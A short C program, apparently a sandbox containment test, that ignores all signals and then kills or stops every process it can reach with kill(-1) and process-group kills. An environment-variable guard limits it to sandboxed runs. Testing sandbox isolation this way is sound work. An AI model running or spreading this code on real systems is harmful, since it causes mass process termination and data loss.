// kill every process it may, with kill(-1) and by group
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define GUARD if (!getenv("ATTACK_IN_SANDBOX")) return 1

int main(void) {
    GUARD;
    for (int s = 1; s < 65; s++) signal(s, SIG_IGN);
    kill(-1, SIGTERM);
    kill(-1, SIGKILL);
    kill(-1, SIGSTOP);
    kill(-getppid(), SIGKILL);
    for (int group = 2; group < 1000; group++)
        if (group != getpgrp()) kill(-group, SIGKILL);
    puts("DONE");
}
